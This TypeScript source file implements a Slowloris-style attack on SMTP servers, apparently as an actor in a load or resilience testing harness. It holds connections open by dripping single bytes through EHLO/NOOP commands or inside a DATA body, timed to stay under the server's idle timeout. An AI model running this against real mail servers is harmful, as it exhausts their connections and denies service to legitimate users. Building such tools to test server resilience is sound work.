// Slowloris for SMTP: every connection drips one byte per `drip` (under the
// target's idle timeout), either through commands (`EHLO`, then `NOOP`s) or
// inside DATA, where it also ties up a backend connection of a streaming proxy.
import { sleep } from '../clock.ts';
import type { HolderPlan } from '../plan.ts';
import type { ActorContext } from './context.ts';
import { runHolder } from './holder.ts';
import type { Session } from './session.ts';

export function runSlowloris(ctx: ActorContext<HolderPlan>): Promise<void> {
  const spec = ctx.plan.spec;
  if (spec.kind !== 'slowloris') throw new Error('slowloris plan expected');
  return runHolder(ctx, async (session, until, stop) => {
    let script: string;
    if (spec.mode === 'data') {
      const t = spec.timeout;
      if ((await session.cmd('ehlo', 'EHLO slow.loris.test', t)).reply?.code !== 250) return;
      if ((await session.cmd('mail', 'MAIL FROM:<loris@slow.loris.test>', t)).reply?.code !== 250) return;
      if ((await session.cmd('rcpt', 'RCPT TO:<postmaster@example.test>', t)).reply?.code !== 250) return;
      if ((await session.cmd('data', 'DATA', t)).reply?.code !== 354) return;
      script = 'Subject: slow\r\n\r\n' + 'x'.repeat(70) + '\r\n';
    } else {
      script = 'EHLO slow.loris.test\r\n' + 'NOOP\r\n'.repeat(1000);
    }
    await drip(ctx, session, script, until, stop, spec.drip, spec.mode === 'command');
  });
}

async function drip(ctx: ActorContext, session: Session, script: string, until: number, stop: AbortSignal, every: number, readReplies: boolean): Promise<void> {
  let i = 0;
  const closed = session.conn.whenClosed();
  for (let n = 0; n < 100_000 && !session.closed && !stop.aborted; n++) {
    const wait = Math.min(every, until - ctx.elapsed());
    if (wait <= 0) return;
    const slept = await Promise.race([sleep(ctx.clock, wait, stop), closed.then(() => false)]);
    if (!slept || ctx.elapsed() >= until || session.closed) return;
    const byte = script[i % script.length];
    i++;
    await session.conn.write(byte);
    // a whole command went out: its reply is waiting; read it so the buffer stays small
    if (readReplies && byte === '\n') session.note(i <= 22 ? 'ehlo' : 'other', await session.conn.read(Math.max(every * 2, 5000)));
  }
}
